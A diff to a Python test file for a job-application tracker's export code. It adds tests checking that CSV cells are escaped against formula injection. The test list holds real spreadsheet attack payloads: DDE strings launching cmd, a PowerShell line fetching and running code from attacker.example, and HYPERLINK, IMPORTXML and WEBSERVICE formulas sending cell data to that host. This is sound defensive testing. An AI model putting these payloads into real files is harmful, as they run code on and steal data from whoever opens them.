@@ -18,15 +18,17 @@ from markdown_it import MarkdownIt
 from followup_tui.domain.application import Application, Stage
 from followup_tui.domain.contact import Contact, ContactKind, Direction
 from followup_tui.domain.instant import Instant
-from followup_tui.domain.interview import Interview
-from followup_tui.domain.person import Person
+from followup_tui.domain.interview import Interview, MovedFrom
+from followup_tui.domain.offer import Offer
+from followup_tui.domain.person import Party, Person
+from followup_tui.domain.promise import Promise
 from followup_tui.domain.text import clean_line, clean_text
 from followup_tui.exchange.csv_export import COLUMNS, export_csv, safe_cell
 from followup_tui.exchange.formats import EXPORTS
 from followup_tui.exchange.json_export import application_document, export_json, json_text, rfc3339
 from followup_tui.exchange.markdown_export import export_markdown
 from followup_tui.exchange.markdown_text import block, inline
-from tests.samples import NORTHWIND, NOW, held, instant, sent, today
+from tests.samples import NORTHWIND, NOW, ahead, held, instant, sent, today
 from tests.strategies import applications
 
 if TYPE_CHECKING:
@@ -215,7 +217,7 @@ def test_csv_gives_back_every_text(many: list[Application]) -> None:
     assert tuple(rows[0]) == COLUMNS
     assert len(rows) == len(many) + 1
     for application, row in zip(many, rows[1:], strict=True):
-        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row)
         cells = dict(zip(COLUMNS, map(plain_cell, row), strict=True))
         assert (cells["company"], cells["role"], cells["notes"]) == (
             application.company,
@@ -227,8 +229,8 @@ def test_csv_gives_back_every_text(many: list[Application]) -> None:
 
 
 def plain_cell(cell: str) -> str:
-    """Return the text that a spreadsheet shows for a cell."""
-    return cell[1:] if re.match("'+[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell) else cell
+    """Return the text of a cell without the apostrophe that was put before it."""
+    return cell[1:] if cell.startswith("'") and safe_cell(cell[1:]) == cell else cell
 
 
 @given(st.text(max_size=20) | st.text(alphabet="'=+-@\t\r\nx", max_size=6))
@@ -238,8 +240,78 @@ def plain_cell(cell: str) -> str:
 def test_a_cell_is_safe_and_can_be_read_back(text: str) -> None:
     """No text is lost by the apostrophe, not even one that has some itself."""
     cell = safe_cell(text)
-    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
+    assert not cell.startswith(("=", "@", "|", "%", "\t", "\r", "\n", "\uff1d"))
+    assert not cell.startswith(("+", "-")) or not re.search(r"[^-+0-9 ().,/]", cell)
     assert plain_cell(cell) == text
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "=1+1",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "=cmd|'/C powershell IEX(wget attacker.example/x)'!A0",
+        "=10+20+cmd|' /C calc'!A0",
+        "=         cmd|'/c calc.exe'!A",
+        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+        "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
+        "+thespanishinquisition(cmd|'/c calc.exe'!A",
+        '=HYPERLINK("http://attacker.example?x="&A1,"Click")',
+        '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
+        '=WEBSERVICE("http://attacker.example/"&A1)',
+        'DDE ("cmd";"/C calc";"!A0")A0',
+        'dde("cmd";"/C calc";"!A0")',
+        "%0A-3+3+cmd|' /C calc'!D2",
+        "%0D=1+1",
+        ";=1+1",
+        ",=1+1",
+        " =1+1",
+        "\u00a0=1+1",
+        "\u200b=1+1",
+        "\ufeff=1+1",
+        '"=1+1',
+        "'=1+1",
+        "`=1+1",
+        '" =1+1',
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\tx",
+        "\uff1d1+1",
+        "\uff0b1+cmd",
+        "\uff0d1+cmd",
+        "\uff20SUM(1)",
+        "\ufe661+1",
+        "\u22121+cmd|x",
+        "|calc",
+        "+A1",
+        "-A1",
+        "-1+A1",
+        "+49 89 A1",
+        "--1",
+        "-",
+        "+49-89-1234",
+    ],
+)
+def test_what_a_spreadsheet_would_run_is_text(attack: str) -> None:
+    """The known attacks: signs, DDE, and what stands before a sign to get past a check."""
+    assert safe_cell(attack) == f"'{attack}"
+    assert plain_cell(safe_cell(attack)) == attack
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("-3", "-1,500", "-0.5", "\u22123", "+49 89 1234567", "+49 (89) 12-34", "+1 555 0100", "0", ""),
+        *("Data engineer", "50% remote", "C++", "a=b", "Q&A", "1-2 days", "jana@northwind.example"),
+        *("'tis", "[[x]]", "#1", "49 89 1234", "(+49) 89 1234"),
+    ],
+)
+def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
+    """A negative number and a phone number do nothing, and are to be read."""
+    assert safe_cell(text) == text
 
 
 def shown(markdown: str) -> str:
@@ -361,6 +433,42 @@ Bring the book
 Tags: remote
 """
     )
+
+
+def test_markdown_tells_of_offers_promises_and_changed_appointments() -> None:
+    """What was moved, by whom, what was cancelled, what is promised and offered, and that it is only said."""
+    moved = MovedFrom(instant("2026-11-26 09:30"), Party.THEM, instant("2026-11-20"))
+    markdown = export_markdown(
+        [
+            replace(
+                NORTHWIND,
+                interviews=(
+                    replace(held("2026-11-06 10:00"), cancelled_by=Party.ME),
+                    replace(ahead("2026-11-30 10:00", 2), moved_from=(moved,), place="Room 4"),
+                ),
+                offer=Offer(
+                    instant("2026-11-20"),
+                    answer_by=instant("2026-11-27"),
+                    terms=("salary 72,000",),
+                    is_verbal=True,
+                ),
+                promises=(
+                    Promise("1", "references", due=date(2026, 11, 27)),
+                    Promise("2", "a second day", Party.THEM, dropped_at=instant("2026-11-21")),
+                ),
+            )
+        ],
+        TODAY,
+    )
+    for line in (
+        "An offer is open, answer by Fri 27 Nov 2026 12:00, not in writing yet.",
+        "- you promised: references, by Fri 27 Nov 2026",
+        "- they promised: a second day, dropped",
+        "- Fri 6 Nov 2026 10:00: interview 1, cancelled by you",
+        "- Fri 20 Nov 2026 12:00: they made an offer\n\n  salary 72,000",
+        "interview 2 planned, moved from Thu 26 Nov 09:30 by them; Room 4",
+    ):
+        assert line in markdown
 
 
 @pytest.mark.parametrize("export", EXPORTS.values())
